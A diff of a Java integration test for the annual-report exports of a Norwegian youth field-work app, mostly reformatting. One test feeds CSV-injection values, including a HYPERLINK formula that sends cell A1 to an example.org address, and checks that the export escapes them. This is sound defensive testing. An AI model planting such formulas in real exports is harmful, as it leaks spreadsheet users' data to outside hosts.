@@ -27,7 +27,10 @@ import no.feltlogg.shared.Role;
 import no.feltlogg.support.IntegrationTest;
 import no.feltlogg.support.TestStaff;
 
-/** Every figure of the report's field-work tables against data built for the test, with known answers. */
+/**
+ * Every figure of the report's field-work tables against data built for the test, with
+ * known answers.
+ */
 @IntegrationTest
 class AnnualReportTest {
 
@@ -123,7 +126,8 @@ class AnnualReportTest {
 			.with(csrf())
 			.exchange();
 		var page = page(leader, "/statistics/annual?kind=year&year=2025");
-		assertThat(page.select("#section-foreword .comment").text()).isEqualTo("Et år med mange nye ungdommer i sentrum.");
+		assertThat(page.select("#section-foreword .comment").text())
+			.isEqualTo("Et år med mange nye ungdommer i sentrum.");
 		assertThat(page.select("#section-byTheme .comment").text()).isEqualTo("Alkohol dominerte i romjula.");
 		var otherYear = page(leader, "/statistics/annual?kind=year&year=2024");
 		assertThat(otherYear.select("#section-foreword .comment")).isEmpty();
@@ -148,7 +152,8 @@ class AnnualReportTest {
 			.contains("ageBandGender,>18,Annet/ukjent,<5\r\n")
 			.contains("ageBandGender,12-15,Gutter,45\r\n")
 			.containsPattern("\\n[a-zA-Z]+,[^\\n]+,×\\r\\n");
-		var internal = mvc.get().uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
+		var internal = mvc.get()
+			.uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
 			.with(user(leader))
 			.exchange();
 		assertThat(internal.getResponse().getContentAsByteArray()).asString(StandardCharsets.UTF_8)
@@ -160,20 +165,29 @@ class AnnualReportTest {
 		busierYears();
 		try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(export("xlsx")))) {
 			var sheets = workbook.getSheets().map(s -> s.getName()).toList();
-			var tables = Jsoup.parse(mvc.get().uri("/statistics/annual?kind=year&year=2025").with(user(leader)).exchange()
-				.getResponse().getContentAsString(StandardCharsets.UTF_8)).select("table.report-table").size();
-			// issue 16: a contents sheet first, and short numbered sheet names instead of titles cut at 31 characters
+			var tables = Jsoup
+				.parse(mvc.get()
+					.uri("/statistics/annual?kind=year&year=2025")
+					.with(user(leader))
+					.exchange()
+					.getResponse()
+					.getContentAsString(StandardCharsets.UTF_8))
+				.select("table.report-table")
+				.size();
+			// issue 16: a contents sheet first, and short numbered sheet names instead of
+			// titles cut at 31 characters
 			assertThat(sheets).hasSize(tables + 1).contains("1 Treff i alt", "9 Tema");
-			var encounters = workbook.getSheets().filter(s -> s.getName().equals("1 Treff i alt")).findFirst()
-				.orElseThrow();
-			var rows = encounters.read();
-			var all = rows.stream()
-				.filter(r -> r.getCellText(0).equals("Alle ungdomstreff"))
+			var encounters = workbook.getSheets()
+				.filter(s -> s.getName().equals("1 Treff i alt"))
 				.findFirst()
 				.orElseThrow();
+			var rows = encounters.read();
+			var all = rows.stream().filter(r -> r.getCellText(0).equals("Alle ungdomstreff")).findFirst().orElseThrow();
 			assertThat(all.getCellAsNumber(1).orElseThrow().intValue()).isEqualTo(57);
 			assertThat(all.getCellAsNumber(2).orElseThrow().intValue()).isEqualTo(106);
-			var ages = workbook.getSheets().filter(s -> s.getName().equals("3 Alder og kjønn")).findFirst()
+			var ages = workbook.getSheets()
+				.filter(s -> s.getName().equals("3 Alder og kjønn"))
+				.findFirst()
 				.orElseThrow()
 				.read();
 			var adults = ages.stream().filter(r -> r.getCellText(0).equals(">18")).findFirst().orElseThrow();
@@ -213,7 +227,8 @@ class AnnualReportTest {
 				"\tFanen", "\rLinja");
 		for (var name : names) {
 			var place = catalog.ensure(municipality.teamA, CodeKind.PLACE, name, area.id());
-			// the code lists trim a name; an older row, or a form that does not, can still begin with a tab
+			// the code lists trim a name; an older row, or a form that does not, can
+			// still begin with a tab
 			jdbc.update("update code_item set label = ? where id = ?", name, place.id());
 			assertThat(mvc.post()
 				.uri("/fieldwork/encounters/new")
@@ -226,7 +241,8 @@ class AnnualReportTest {
 				.with(user(worker))
 				.with(csrf())).hasRedirectedUrl("/");
 		}
-		var result = mvc.get().uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
+		var result = mvc.get()
+			.uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
 			.with(user(leader))
 			.exchange();
 		var csv = new String(result.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8).substring(1);
@@ -237,8 +253,7 @@ class AnnualReportTest {
 		assertThat(cells).contains("'=HYPERLINK(\"https://example.org/?\"&A1,\"Torget\")", "'+47 Plassen", "'-1+1",
 				"'@SUM(A1)", "'\tFanen", "'\rLinja");
 		assertThat(cells).as("no cell a spreadsheet reads as a formula")
-			.noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
-					&& !cell.matches("-\\d+"));
+			.noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+"));
 	}
 
 	@Test
@@ -246,10 +261,16 @@ class AnnualReportTest {
 		for (var role : List.of(Role.WORKER, Role.SLT, Role.ADMIN)) {
 			var other = municipality.user(municipality.account(role));
 			assertThat(mvc.get().uri("/statistics/annual").with(user(other))).hasStatus(HttpStatus.FORBIDDEN);
-			assertThat(mvc.get().uri("/statistics/annual/export.pdf").with(user(other))).hasStatus(HttpStatus.FORBIDDEN);
-			assertThat(mvc.get().uri("/statistics/annual/export.csv").with(user(other))).hasStatus(HttpStatus.FORBIDDEN);
-			assertThat(mvc.post().uri("/statistics/annual/comments").param("section", "foreword").param("text", "x")
-				.with(user(other)).with(csrf())).hasStatus(HttpStatus.FORBIDDEN);
+			assertThat(mvc.get().uri("/statistics/annual/export.pdf").with(user(other)))
+				.hasStatus(HttpStatus.FORBIDDEN);
+			assertThat(mvc.get().uri("/statistics/annual/export.csv").with(user(other)))
+				.hasStatus(HttpStatus.FORBIDDEN);
+			assertThat(mvc.post()
+				.uri("/statistics/annual/comments")
+				.param("section", "foreword")
+				.param("text", "x")
+				.with(user(other))
+				.with(csrf())).hasStatus(HttpStatus.FORBIDDEN);
 		}
 		var leaderB = municipality.user(municipality.account(Role.LEADER, municipality.teamB));
 		var page = page(leaderB, "/statistics/annual?kind=year&year=2025");
@@ -260,7 +281,8 @@ class AnnualReportTest {
 	void aPeriodThatMakesNoSenseFallsBackToTheYearWithAMessage() {
 		var page = page(leader, "/statistics/annual?kind=custom&year=2025&from=2025-05-01&to=2025-04-01");
 		assertThat(page.select("[role=alert]").text()).contains("Perioden kunne ikke leses");
-		assertThat(mvc.get().uri("/statistics/annual?kind=month&year=99999&number=13").with(user(leader))).hasStatusOk();
+		assertThat(mvc.get().uri("/statistics/annual?kind=month&year=99999&number=13").with(user(leader)))
+			.hasStatusOk();
 	}
 
 	@Test
@@ -293,7 +315,8 @@ class AnnualReportTest {
 		assertThat(posted).hasStatus(HttpStatus.FOUND);
 		assertThat(posted.getMvcResult().getFlashMap().get("error")).isEqualTo("report.period.tooLong");
 		assertThat(jdbc.queryForObject("select count(*) from report_comment where team_id = ?", Integer.class,
-				municipality.teamA)).isZero();
+				municipality.teamA))
+			.isZero();
 	}
 
 	@Test
@@ -316,7 +339,10 @@ class AnnualReportTest {
 	}
 
 	private byte[] export(String format) {
-		var result = mvc.get().uri("/statistics/annual/export." + format + "?kind=year&year=2025").with(user(leader)).exchange();
+		var result = mvc.get()
+			.uri("/statistics/annual/export." + format + "?kind=year&year=2025")
+			.with(user(leader))
+			.exchange();
 		assertThat(result).hasStatusOk();
 		return result.getResponse().getContentAsByteArray();
 	}
